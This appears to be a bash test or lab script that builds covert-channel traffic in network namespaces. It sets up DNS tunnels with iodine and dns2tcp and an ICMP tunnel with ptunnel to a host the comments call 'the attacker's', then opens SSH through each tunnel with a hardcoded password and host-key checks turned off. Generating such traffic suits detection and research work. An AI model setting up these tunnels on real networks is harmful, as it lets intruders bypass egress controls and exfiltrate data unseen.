# shellcheck shell=bash
# SPDX-License-Identifier: GPL-2.0-or-later
# Ways out, hidden in what everybody lets through; 192.0.2.53 is the attacker's.

ssh_through() {
    sshpass -p sunflower ssh -F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no "$@"
}

iodine_as() {
    ssh_server far
    on far iodined -c -f -P secret 10.77.0.1 tun.example.com &
    sleep 1
    listen
    on client iodine -f -r -T "$1" -P secret 192.0.2.53 tun.example.com &
    until on client ip -4 address show dev dns0 2>/dev/null | grep -q 'inet '; do
        sleep 0.5
    done
    sleep 1
    try on client ping -q -c 8 -i 0.5 10.77.0.1
    export -f ssh_through
    try on client bash -c "ssh_through anna@10.77.0.1 ls -l /etc" | tail -n 3
}

make_iodine_null() { keep='1-600' && iodine_as NULL; }
make_iodine_txt() { keep='1-600' && iodine_as TXT; }
make_iodine_cname() { keep='1-280' && iodine_as CNAME; }

make_dns2tcp() {
    keep='1-600'
    ssh_server far
    cat >"$work/dns2tcpd" <<EOF
listen = 192.0.2.53
port = 53
user = root
domain = dns.example.net
key = lab
resources = ssh:127.0.0.1:22
EOF
    sleep 99 | on far dns2tcpd -F -d 1 -f "$work/dns2tcpd" &
    sleep 1
    listen
    sleep 99 | on client dns2tcpc -c -k lab -z dns.example.net -r ssh -l 2222 -f /dev/null 192.0.2.53 &
    wait_for client 2222
    export -f ssh_through
    try timeout 25 ip netns exec client bash -c "ssh_through -p 2222 anna@127.0.0.1 ls -l /etc" | tail -n 3
}

make_icmp_tunnel_ptunnel() {
    keep='1-400'
    ssh_server far
    on far ptunnel &
    sleep 1
    listen
    on client ptunnel -p 192.0.2.80 -lp 8000 -da 127.0.0.1 -dp 22 &
    sleep 1
    export -f ssh_through
    try timeout 25 ip netns exec client bash -c "ssh_through -p 8000 anna@127.0.0.1 ls -l /etc" | tail -n 3
}
